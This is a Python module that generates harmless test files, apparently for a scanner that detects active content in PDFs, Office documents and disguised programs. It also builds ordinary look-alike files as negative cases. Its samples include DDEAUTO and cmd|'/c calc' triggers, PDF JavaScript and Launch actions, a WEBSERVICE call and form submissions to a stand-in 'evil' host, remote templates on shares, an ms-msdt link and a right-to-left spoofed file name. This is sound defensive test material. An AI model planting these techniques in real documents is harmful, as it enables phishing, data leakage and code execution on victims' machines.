"""Small files that act or reach outside in one way each, and ordinary ones that don't: made in code, all harmless."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
CHART_TYPE = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PE = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + b"\0" * 200

Relations = tuple[tuple[str, str, bool], ...]


def write_zip(parts: Mapping[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def format_relations(relations: Relations) -> str:
    """The part that holds relationships: kind, target, whether it is outside."""
    mode = {True: ' TargetMode="External"', False: ""}
    items = "".join(
        f'<Relationship Id="r{number}" Type="{KIND}/{kind}" Target="{target}"{mode[outside]}/>'
        for number, (kind, target, outside) in enumerate(relations, 1)
    )
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{items}</Relationships>'


def format_types(main: str, media_type: str, more: Mapping[str, str]) -> str:
    """The content types; a key of ``more`` that begins with a dot is a suffix."""
    own = {f"/{main}": media_type, **{f"/{key}": value for key, value in more.items() if not key.startswith(".")}}
    suffixes = {
        ".rels": "application/vnd.openxmlformats-package.relationships+xml",
        ".xml": "application/xml",
    }
    suffixes |= {key: value for key, value in more.items() if key.startswith(".")}
    return (
        f'<Types xmlns="{_PACKAGE}/content-types">'
        + "".join(f'<Default Extension="{key[1:]}" ContentType="{value}"/>' for key, value in suffixes.items())
        + "".join(f'<Override PartName="{key}" ContentType="{value}"/>' for key, value in own.items())
        + "</Types>"
    )


def make_word(
    body: str = "",
    relations: Relations = (),
    parts: Mapping[str, str | bytes] = {},
    types: Mapping[str, str] = {},
    main_type: str = _WORD_TYPE,
) -> bytes:
    """A docx with this body, these relationships of its main part, and these further parts."""
    return write_zip(
        {
            "[Content_Types].xml": format_types("word/document.xml", main_type, types),
            "_rels/.rels": format_relations((("officeDocument", "word/document.xml", False),)),
            "word/document.xml": f'<w:document xmlns:w="{WORD}" xmlns:r="{KIND}"><w:body>{body}</w:body></w:document>',
            "word/_rels/document.xml.rels": format_relations(relations),
            **parts,
        }
    )


def make_book(
    cells: str = "",
    names: str = "",
    relations: Relations = (),
    parts: Mapping[str, str | bytes] = {},
    types: Mapping[str, str] = {},
) -> bytes:
    """An xlsx with these cells, these defined names, and these further parts."""
    return write_zip(
        {
            "[Content_Types].xml": format_types(
                "xl/workbook.xml", _BOOK_TYPE, {"xl/worksheets/sheet1.xml": _SHEET_TYPE, **types}
            ),
            "_rels/.rels": format_relations((("officeDocument", "xl/workbook.xml", False),)),
            "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{KIND}"><sheets><sheet name="1" sheetId="1" '
            f'r:id="r1"/></sheets><definedNames>{names}</definedNames></workbook>',
            "xl/_rels/workbook.xml.rels": format_relations((("worksheet", "worksheets/sheet1.xml", False), *relations)),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}"><sheetData><row r="1">{cells}</row></sheetData>'
            "</worksheet>",
            **parts,
        }
    )


def make_slides(body: str) -> bytes:
    """A pptx with this in its main part."""
    media_type = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return write_zip(
        {
            "[Content_Types].xml": format_types("ppt/presentation.xml", media_type, {}),
            "_rels/.rels": format_relations((("officeDocument", "ppt/presentation.xml", False),)),
            "ppt/presentation.xml": f"<p>{body}</p>",
        }
    )


def make_old(*streams: str) -> bytes:
    """What is recognised of a file of the old Office formats: its beginning and the names of its streams."""
    return OLE + b"".join(name.encode("utf-16-le") for name in streams)


def format_field(*runs: str, result: str = "") -> str:
    """A complex field whose instruction is split over these runs."""

    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    code = "".join(run if run.startswith("<") else f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f"<w:p>{mark('begin')}{code}{mark('separate')}<w:r><w:t>{result}</w:t></w:r>{mark('end')}</w:p>"


def format_nested(*runs: str, result: str = "") -> str:
    """The same within a paragraph."""
    return format_field(*runs, result=result).removeprefix("<w:p>").removesuffix("</w:p>")


def format_formula(formula: str) -> str:
    return f'<c r="A1"><f>{formula}</f><v>0</v></c>'


def name(text: str) -> NameObject:
    return NameObject(text)


def format_dictionary(**entries: object) -> DictionaryObject:
    """A dictionary of a PDF: texts that begin with a slash are names."""
    made = DictionaryObject()
    for key, value in entries.items():
        text = value if isinstance(value, str) else ""
        made[name(f"/{key}")] = (name(text) if text.startswith("/") else TextStringObject(text)) if text else value
    return made


def write_pdf(change: Callable[[PdfWriter], object]) -> bytes:
    writer, buffer = PdfWriter(), io.BytesIO()
    for _ in range(2):
        writer.add_blank_page(200, 280)
    change(writer)
    writer.write(buffer)
    return buffer.getvalue()


def open_with(**action: object) -> bytes:
    """A PDF with an action when it is opened."""
    return write_pdf(lambda writer: writer.root_object.__setitem__(name("/OpenAction"), format_dictionary(**action)))


def annotate_with(annotation: DictionaryObject) -> bytes:
    """A PDF with an annotation on its second page."""

    def change(writer: PdfWriter) -> None:
        annotation[name("/Type")] = name("/Annot")
        annotation[name("/Rect")] = ArrayObject([FloatObject(1)] * 4)
        writer.pages[1][name("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return write_pdf(change)


def link_to(**action: object) -> bytes:
    return annotate_with(format_dictionary(Subtype="/Link", A=format_dictionary(**action)))


def put_into_root(**entries: object) -> bytes:
    return write_pdf(lambda writer: writer.root_object.update(format_dictionary(**entries)))


def hide_in_object_stream() -> bytes:
    """A PDF whose script stands in an object stream."""
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    held = b"7 0 " + script
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 7 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        4: b"<</Type/ObjStm/N 1/First 4/Length %d>>stream\n%s\nendstream" % (len(held), held),
    }
    data, offsets = b"%PDF-1.5\n", {}
    for number, text in objects.items():
        offsets[number] = len(data)
        data += b"%d 0 obj%s endobj\n" % (number, text)
    start = len(data)
    rows = [bytes((0, 0, 0, 0)), *(bytes((1, *offsets[number].to_bytes(2, "big"), 0)) for number in objects)]
    rows += [bytes((1, *start.to_bytes(2, "big"), 0)), bytes((0, 0, 0, 0)), bytes((2, 0, 4, 0))]
    table = b"".join(rows)
    data += b"5 0 obj<</Type/XRef/Size 8/W[1 2 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream endobj\n" % (
        len(table),
        table,
    )
    return data + b"startxref\n%d\n%%%%EOF\n" % start


def format_with_escapes() -> bytes:
    """A PDF that writes the names of its action with escapes: /J#61vaScript."""
    data = open_with(S="/JavaScript", JS="app.alert(1)")
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


def refer_to_names() -> bytes:
    """A PDF whose action's type is an object of its own."""

    def change(writer: PdfWriter) -> None:
        action = DictionaryObject({name("/S"): writer._add_object(name("/Launch")), name("/F"): TextStringObject("a")})
        writer.root_object[name("/OpenAction")] = writer._add_object(action)

    return write_pdf(change)


def add_outline(**action: object) -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.add_outline_item(title="第一章", page_number=0)
        first = writer.root_object["/Outlines"].get_object()["/First"].get_object()  # type: ignore[index]
        if action:
            first.pop(name("/A"), None)
            first[name("/A")] = format_dictionary(**action)

    return write_pdf(change)


def attach(writer: PdfWriter) -> None:
    writer.add_attachment("清单.xlsx", b"x")


def act_on_page(writer: PdfWriter) -> None:
    action = format_dictionary(S="/JavaScript", JS="1")
    writer.pages[0][name("/AA")] = format_dictionary(O=action)


def name_script(writer: PdfWriter) -> None:
    tree = format_dictionary(Names=ArrayObject([TextStringObject("a"), format_dictionary(S="/JavaScript", JS="1")]))
    writer.root_object[name("/Names")] = format_dictionary(JavaScript=tree)


def script_by_stream(writer: PdfWriter) -> None:
    stream = StreamObject()
    stream.set_data(b"app.alert(1)")
    action = format_dictionary(S="/JavaScript", JS=writer._add_object(stream))
    writer.root_object[name("/OpenAction")] = format_dictionary(
        S="/GoTo", D=ArrayObject([]), Next=ArrayObject([action])
    )


def act_in_field(writer: PdfWriter) -> None:
    field = format_dictionary(T="a", FT="/Tx", AA=format_dictionary(K=format_dictionary(S="/JavaScript", JS="1")))
    writer.root_object[name("/AcroForm")] = format_dictionary(Fields=ArrayObject([writer._add_object(field)]))


def act_in_parent(writer: PdfWriter) -> None:
    parent = format_dictionary(T="a", AA=format_dictionary(K=format_dictionary(S="/JavaScript", JS="1")))
    widget = format_dictionary(Type="/Annot", Subtype="/Widget", Parent=writer._add_object(parent))
    writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(widget)])


def fill_form(writer: PdfWriter) -> None:
    field = format_dictionary(T="姓名", FT="/Tx", V="某某")
    writer.root_object[name("/AcroForm")] = format_dictionary(Fields=ArrayObject([writer._add_object(field)]))
    writer.root_object[name("/ViewerPreferences")] = format_dictionary(FitWindow=NumberObject(1))


FILE_SPEC = "c:/x.exe"

PDFS: dict[str, tuple[bytes, str]] = {
    "javascript": (open_with(S="/JavaScript", JS="app.alert(1)"), "script"),
    "javascript, escaped": (format_with_escapes(), "script"),
    "javascript, in an object stream": (hide_in_object_stream(), "script"),
    "javascript, in a stream behind a GoTo": (write_pdf(script_by_stream), "script"),
    "javascript, on a page": (write_pdf(act_on_page), "script"),
    "javascript, by name": (write_pdf(name_script), "script"),
    "javascript, of a field": (write_pdf(act_in_field), "script"),
    "javascript, of a field's parent": (write_pdf(act_in_parent), "script"),
    "javascript, in an outline": (add_outline(S="/JavaScript", JS="1"), "script"),
    "javascript, of a link": (link_to(S="/JavaScript", JS="1"), "script"),
    "launch": (open_with(S="/Launch", F=FILE_SPEC), "launch"),
    "launch, of a link": (link_to(S="/Launch", Win=format_dictionary(F="cmd.exe")), "launch"),
    "launch, its type indirect": (refer_to_names(), "launch"),
    "another file": (link_to(S="/GoToR", F="\\\\evil\\x.pdf", D=ArrayObject([])), "elsewhere"),
    "another file, embedded": (link_to(S="/GoToE", F="a.pdf"), "elsewhere"),
    "another file, in an outline": (add_outline(S="/GoToR", F="a.pdf"), "elsewhere"),
    "a thread elsewhere": (open_with(S="/Thread", F="a.pdf", D="x"), "elsewhere"),
    "URI to a file": (link_to(S="/URI", URI="file:///c:/x.exe"), "elsewhere"),
    "URI to a share": (link_to(S="/URI", URI="\\\\evil\\share\\x"), "elsewhere"),
    "URI that is a script": (link_to(S="/URI", URI="javascript:alert(1)"), "elsewhere"),
    "URI to a program beside": (link_to(S="/URI", URI="安装/setup.exe"), "elsewhere"),
    "a base that is a file": (put_into_root(URI=format_dictionary(Base="file://evil/")), "elsewhere"),
    "submit": (link_to(S="/SubmitForm", F="http://evil/"), "submit"),
    "submit, when opened": (open_with(S="/SubmitForm", F=format_dictionary(FS="/URL", F="http://evil/")), "submit"),
    "import data": (link_to(S="/ImportData", F="a.fdf"), "submit"),
    "attachment": (write_pdf(attach), "attachment"),
    "attachment, as an annotation": (
        annotate_with(
            format_dictionary(Subtype="/FileAttachment", FS=format_dictionary(F="a.exe", EF=format_dictionary(F="x")))
        ),
        "attachment",
    ),
    "rich media": (annotate_with(format_dictionary(Subtype="/RichMedia")), "media"),
    "film": (annotate_with(format_dictionary(Subtype="/Screen", A=format_dictionary(S="/Rendition"))), "media"),
    "sound": (link_to(S="/Sound"), "media"),
    "3D": (annotate_with(format_dictionary(Subtype="/3D")), "media"),
    "XFA": (put_into_root(AcroForm=format_dictionary(XFA=ArrayObject([]), Fields=ArrayObject([]))), "form"),
}
"""By what they are: a PDF, and the kind of action that is found in it."""

ORDINARY_PDFS: dict[str, bytes] = {
    "pages": write_pdf(lambda _: None),
    "outline": add_outline(),
    "link to a page on the web": link_to(S="/URI", URI="https://example.org/a?b=c:d"),
    "link to an address": link_to(S="/URI", URI="mailto:a@example.org"),
    "link without a scheme": link_to(S="/URI", URI="www.example.org"),
    "link to a place": link_to(S="/GoTo", D=ArrayObject([NumberObject(0), name("/Fit")])),
    "opened at a page": put_into_root(OpenAction=ArrayObject([NumberObject(0), name("/Fit")])),
    "print dialogue": link_to(S="/Named", N="/NextPage"),
    "form that was filled in": write_pdf(fill_form),
    "highlighted": annotate_with(format_dictionary(Subtype="/Highlight", Contents="看这里")),
}

_BIN = {".bin": "application/vnd.ms-office.vbaProject"}
_CODE = '<w:fldSimple w:instr="{}"><w:r><w:t>1</w:t></w:r></w:fldSimple>'
_LINKED_BOOK = "xl/externalLinks/externalLink1.xml"


def link_book(content: str, relations: Relations = ()) -> bytes:
    return make_book(
        relations=(("externalLink", "externalLinks/externalLink1.xml", False),),
        parts={
            _LINKED_BOOK: f'<externalLink xmlns="{SHEET}" xmlns:r="{KIND}">{content}</externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": format_relations(relations),
        },
    )


def with_chart(workbook: bytes, chart_type: str = CHART_TYPE) -> bytes:
    """A docx with a chart whose figures lie in a workbook of its own."""
    return make_word(
        relations=(("chart", "charts/chart1.xml", False),),
        parts={
            "word/charts/chart1.xml": '<c:chartSpace xmlns:c="c"><c:f>Sheet1!$A$1</c:f></c:chartSpace>',
            "word/charts/_rels/chart1.xml.rels": format_relations(
                (("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", False),)
            ),
            "word/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook,
        },
        types={
            "word/charts/chart1.xml": chart_type,
            ".xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        },
    )


OFFICE: dict[str, tuple[str, bytes, str]] = {
    "macros": (
        ".docx",
        make_word(relations=(("vbaProject", "vbaProject.bin", False),), parts={"word/vbaProject.bin": OLE}),
        "macro",
    ),
    "macros, renamed, by relationship": (
        ".docx",
        make_word(relations=(("vbaProject", "media1.png", False),), parts={"word/media1.png": "x"}),
        "macro",
    ),
    "macros, renamed, by content type": (
        ".docx",
        make_word(parts={"word/media1.bin": "x"}, types=_BIN),
        "macro",
    ),
    "macros, content type in capitals": (
        ".docx",
        make_word(parts={"word/a.dat": "x"}, types={"WORD/A.DAT": "application/vnd.ms-office.VBAPROJECT"}),
        "macro",
    ),
    "macros, nothing leads to them": (".xlsx", make_book(parts={"xl/vbaProject.bin": "x"}), "macro"),
    "macro-enabled main part": (
        ".docx",
        make_word(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macro",
    ),
    "docm": (".docm", make_word(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "macro"),
    "macro button": (".docx", make_word(_CODE.format("MACROBUTTON Evil 点这里")), "macro"),
    "OLE object": (
        ".docx",
        make_word(relations=(("oleObject", "media/image1.png", False),), parts={"word/media/image1.png": "x"}),
        "object",
    ),
    "OLE object, by what it begins with": (".docx", make_word(parts={"word/media/image1.png": OLE}), "object"),
    "OLE object elsewhere": (".docx", make_word(relations=(("oleObject", "file:///c:/a.xls", True),)), "object"),
    "embedded document": (
        ".docx",
        make_word(relations=(("package", "embeddings/a.xlsx", False),), parts={"word/embeddings/a.xlsx": make_book()}),
        "object",
    ),
    "program in a part": (".docx", make_word(parts={"word/media/image2.png": PE}), "program"),
    "ActiveX": (
        ".docx",
        make_word(relations=(("control", "x/a.xml", False),), parts={"word/x/a.xml": "<a/>"}),
        "control",
    ),
    "ActiveX, by content type": (
        ".docx",
        make_word(parts={"word/x/a.xml": "<a/>"}, types={"word/x/a.xml": "application/vnd.ms-office.activeX+xml"}),
        "control",
    ),
    "DDE": (".docx", make_word(_CODE.format("DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;")), "dde"),
    "DDE, in small letters": (".docx", make_word(_CODE.format(" dde excel a b")), "dde"),
    "DDE, split over runs": (".docx", make_word(format_field("D", "DEA", "UTO", " c:\\\\cmd.exe a")), "dde"),
    "DDE, a character reference": (".docx", make_word(format_field("&#68;DE", " cmd a")), "dde"),
    "DDE, without a result": (
        ".docx",
        make_word(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO a b</w:instrText></w:r></w:p>',
        ),
        "dde",
    ),
    "DDE, in a field of a field": (
        ".docx",
        make_word(format_field("IF 1 = 1 ", format_nested("DDEAUTO cmd a"), " 2")),
        "dde",
    ),
    "DDE, spelled by QUOTE": (
        ".docx",
        make_word(format_field(format_nested("QUOTE 68 68 69"), " cmd a")),
        "dde",
    ),
    "DDE, in a header": (
        ".docx",
        make_word(
            relations=(("header", "header1.xml", False),),
            parts={"word/header1.xml": f'<w:hdr xmlns:w="{WORD}"><w:p>{_CODE.format("DDE a b c")}</w:p></w:hdr>'},
        ),
        "dde",
    ),
    "DDE, in UTF-16": (
        ".docx",
        make_word(
            parts={
                "word/footnotes.xml": f'<?xml version="1.0" encoding="UTF-16"?><w:f xmlns:w="{WORD}">'
                f"{_CODE.format('DDE a b')}</w:f>".encode("utf-16")
            }
        ),
        "dde",
    ),
    "DDE, another prefix": (
        ".docx",
        make_word(parts={"word/a.xml": f'<x:p xmlns:x="{WORD}"><x:fldSimple x:instr="DDE a b"/></x:p>'}),
        "dde",
    ),
    "text from a file": (".docx", make_word(_CODE.format("INCLUDETEXT &quot;\\\\\\\\evil\\\\a.docx&quot;")), "field"),
    "picture from elsewhere, by field": (
        ".docx",
        make_word(format_field("INCLUDEPICTURE ", '"http://evil/a.png" \\d')),
        "field",
    ),
    "linked object": (".docx", make_word(format_field("LINK Excel.Sheet.12 a.xlsx")), "field"),
    "database": (".docx", make_word(_CODE.format("DATABASE \\d a.mdb")), "field"),
    "picture from elsewhere": (".docx", make_word(relations=(("image", "http://evil/a.png", True),)), "remote"),
    "picture on a share, said to be inside": (
        ".docx",
        make_word(relations=(("image", "\\\\evil\\a.png", False),)),
        "remote",
    ),
    "template": (".docx", make_word(relations=(("attachedTemplate", "http://evil/a.dotm", True),)), "remote"),
    "template, said in capitals": (
        ".docx",
        make_word(
            parts={
                "word/_rels/settings.xml.rels": format_relations((("attachedTemplate", "//evil/a", True),)).replace(
                    '"External"', '"EXTERNAL"'
                ),
                "word/settings.xml": "<a/>",
            }
        ),
        "remote",
    ),
    "sub-document": (".docx", make_word(relations=(("subDocument", "a.docx", True),)), "remote"),
    "frame": (".docx", make_word(relations=(("frame", "http://evil/", True),)), "remote"),
    "mail merge": (".docx", make_word(relations=(("mailMergeSource", "file:///c:/a.xlsx", True),)), "remote"),
    "VML picture": (
        ".docx",
        make_word('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil/a.png"/>'),
        "remote",
    ),
    "HTML": (
        ".docx",
        make_word(relations=(("aFChunk", "a.mht", False),), parts={"word/a.mht": "MIME-Version: 1.0"}),
        "chunk",
    ),
    "HTML, by content type": (
        ".docx",
        make_word(parts={"word/a.dat": "x"}, types={"word/a.dat": "text/html"}),
        "chunk",
    ),
    "link to a share": (".docx", make_word(relations=(("hyperlink", "file:///\\\\evil\\x.exe", True),)), "file_link"),
    "link to a disk": (".docx", make_word(relations=(("hyperlink", "C:\\\\x.exe", True),)), "file_link"),
    "link to a program of Windows": (
        ".docx",
        make_word(relations=(("hyperlink", "ms-msdt:/id a", True),)),
        "file_link",
    ),
    "link that is a script": (".docx", make_word(relations=(("hyperlink", "java\tscript:1", True),)), "file_link"),
    "link to a program beside": (".docx", make_word(relations=(("hyperlink", "附件/setup.exe", True),)), "file_link"),
    "link by field": (".docx", make_word(format_field("HYPERLINK ", '"file:///', 'c:/x"')), "file_link"),
    "web service": (".xlsx", make_book(format_formula('_xlfn.WEBSERVICE("http://evil/"&amp;A2)')), "function"),
    "XML filter": (".xlsx", make_book(format_formula('1+filterxml(A1,"//a")')), "function"),
    "real-time data": (".xlsx", make_book(format_formula('RTD("a.b",,"c")')), "function"),
    "registered code": (".xlsx", make_book(names='<definedName name="a">CALL("urlmon","b")</definedName>'), "function"),
    "DDE formula": (".xlsx", make_book(format_formula("cmd|'/c calc'!A0")), "dde"),
    "DDE link": (".xlsx", link_book('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), "dde"),
    "another workbook": (
        ".xlsx",
        link_book('<externalBook r:id="r1"/>', (("externalLinkPath", "file:///c:/a.xlsx", True),)),
        "remote",
    ),
    "data connection": (
        ".xlsx",
        make_book(relations=(("connections", "connections.xml", False),), parts={"xl/connections.xml": "<a/>"}),
        "remote",
    ),
    "HYPERLINK to a file": (".xlsx", make_book(format_formula('HYPERLINK("file://evil/a.exe","看")')), "file_link"),
    "macro sheet": (
        ".xlsx",
        make_book(relations=(("xlMacrosheet", "a/b.xml", False),), parts={"xl/a/b.xml": "<a/>"}),
        "macro_sheet",
    ),
    "macro sheet, by content type": (
        ".xlsx",
        make_book(parts={"xl/a.xml": "<a/>"}, types={"xl/a.xml": "application/vnd.ms-excel.macrosheet+xml"}),
        "macro_sheet",
    ),
    "name that starts": (
        ".xlsx",
        make_book(names='<definedName name="_xlnm.Auto_Open">a!A1</definedName>'),
        "macro_sheet",
    ),
    "add-in": (
        ".docx",
        make_word(relations=(("webextension", "a.xml", False),), parts={"word/a.xml": "<a/>"}),
        "addin",
    ),
    "slides with a program": (
        ".pptx",
        make_slides('<a:hlinkClick xmlns:a="a" action="ppaction://program"/>'),
        "file_link",
    ),
    "chart with macros in its workbook": (".docx", with_chart(make_book(parts={"xl/vbaProject.bin": OLE})), "macro"),
    "chart whose workbook is none": (".docx", with_chart(b"x" * 99), "object"),
    "old Word with macros": (
        ".doc",
        make_old("WordDocument", "_VBA_PROJECT"),
        "macro",
    ),
    "old Word with an object": (
        ".doc",
        make_old("WordDocument", "ObjectPool"),
        "object",
    ),
    "RTF with an object": (".rtf", b"{\\rtf1{\\object\\objdata 0105}}", "object"),
    "RTF with a template": (".rtf", b"{\\rtf1{\\*\\template http://evil/a.dotm}}", "remote"),
    "RTF with DDE": (".rtf", b"{\\rtf1{\\field{\\*\\fldinst {DDEAUTO cmd a}}{\\fldrslt }}}", "dde"),
    "page with a script": (".html", b"<html><body><script>1</script></body></html>", "script"),
    "page with an event": (".htm", b"<!doctype html><body onload=a()>", "script"),
    "drawing with a script": (".svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", "script"),
    "page with a picture from elsewhere": (".html", b"<html><img src='http://evil/a.png'></html>", "remote"),
}
"""By what they are: the suffix, the file, and the kind of thing that is found in it."""

_TABLE = "<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"

ORDINARY: dict[str, tuple[str, bytes]] = {
    "contents": (".docx", make_word(format_field(' TOC \\o "1-3" \\h \\z \\u ', result="目录"))),
    "page numbers": (".docx", make_word(_CODE.format(" PAGE  \\* MERGEFORMAT ") + _CODE.format("NUMPAGES"))),
    "references": (".docx", make_word(format_field(" REF _Ref1 \\h ") + format_field(" PAGEREF _Toc1 \\h "))),
    "captions": (".docx", make_word(format_field(" SEQ 表 \\* ARABIC ") + _CODE.format("STYLEREF 1 \\s"))),
    "dates": (".docx", make_word(_CODE.format("DATE \\@ &quot;yyyy年M月d日&quot;") + _CODE.format("SAVEDATE"))),
    "mail merge field": (".docx", make_word(_CODE.format("MERGEFIELD 企业名称"))),
    "formula field": (".docx", make_word(format_field("=SUM(ABOVE) \\# 0.00") + format_field(" EQ \\f(1,2) "))),
    "place to click": (".docx", make_word(_CODE.format("MACROBUTTON NoMacro [单击此处输入]"))),
    "text about DDE": (".docx", make_word("<w:p><w:r><w:t>DDEAUTO cmd.exe，WEBSERVICE(1)</w:t></w:r></w:p>")),
    "field results that say DDE": (".docx", make_word(format_field(" REF a ", result="DDEAUTO cmd"))),
    "links": (
        ".docx",
        make_word(
            format_field(' HYPERLINK "https://example.org/a.exe?b" ') + format_field(' HYPERLINK \\l "_Toc1" '),
            relations=(
                ("hyperlink", "https://www.example.org/下载/setup.exe", True),
                ("hyperlink", "mailto:a@example.org", True),
                ("hyperlink", "#_Toc1", True),
                ("hyperlink", "www.example.com", True),
                ("hyperlink", "localhost:8080/a", True),
                ("hyperlink", "附件1.docx", True),
            ),
        ),
    ),
    "picture that Word lost": (".docx", make_word(relations=(("image", "NULL", True),))),
    "pictures, fonts, printer settings": (
        ".docx",
        make_word(
            _TABLE,
            relations=(
                ("image", "media/image1.png", False),
                ("font", "fonts/font1.odttf", False),
                ("printerSettings", "p.bin", False),
            ),
            parts={
                "word/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 30,
                "word/fonts/font1.odttf": bytes(range(256)),
                "word/p.bin": "\\\\打印机".encode("utf-16-le"),
            },
            types={".odttf": "application/vnd.openxmlformats-officedocument.obfuscatedFont"},
        ),
    ),
    "chart": (".docx", with_chart(make_book(format_formula("SUM(B1:B9)")))),
    "formulas": (
        ".xlsx",
        make_book(
            format_formula('IF(A2="a|b",SUM(B1:B3),"CALL(1)")')
            + format_formula("'华东|华北'!A1+RECALL(1)+_xlfn.IFERROR(A1,0)")
            + format_formula('HYPERLINK("https://example.org/","看")&amp;HYPERLINK("#Sheet1!A1","返回")'),
            names='<definedName name="_xlnm.Print_Area">Sheet1!$A$1</definedName>',
        ),
    ),
    "slides": (".pptx", make_slides('<a:hlinkClick xmlns:a="a" action="ppaction://hlinksldjump"/>')),
    "plain text": (".txt", "<script>，MZ，javascript:，@echo off 都只是文字".encode()),
    "page": (".html", "<!doctype html><html><a href='https://example.org'>看</a><img src='a.png'></html>".encode()),
    "rich text": (".rtf", b'{\\rtf1{\\field{\\*\\fldinst HYPERLINK "http://example.org"}{\\fldrslt a}}}'),
    "old Word": (".doc", make_old("WordDocument")),
}
"""By what they are: the suffix and the file; nothing in them acts."""

PROGRAMS: dict[str, tuple[str, bytes]] = {
    "program": ("a.exe", PE),
    "program without a suffix that says so": ("a.dat", PE),
    "ELF": ("a.bin", b"\x7fELF\2\1\1" + b"\0" * 60),
    "Mach-O": ("a", b"\xcf\xfa\xed\xfe\7\0\0\1" + b"\0" * 60),
    "link": ("合同.pdf.lnk", b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0" + b"\0" * 60),
    "help": ("a.dat", b"ITSF\3\0\0\0`\0\0\0" + b"\0" * 60),
    "shell script": ("a.log", b"#!/bin/sh\nrm -rf a\n"),
    "batch file under another suffix": ("a.log", b"@ECHO OFF\r\ncalc\r\n"),
    "script that opens a shell": ("a.log", b'Set a = CreateObject("WScript.Shell")\r\n'),
    **{
        suffix: (f"a{suffix}", b"x = 1\r\n")
        for suffix in (".bat", ".cmd", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".hta", ".ps1", ".reg", ".url", ".scf")
    },
    "capitals and a dot at the end": ("A.VBS.", b"x = 1\r\n"),
    "right-to-left name": ("合同\u202efdp.scr", PE),
}
"""By what they are: the name and the file."""
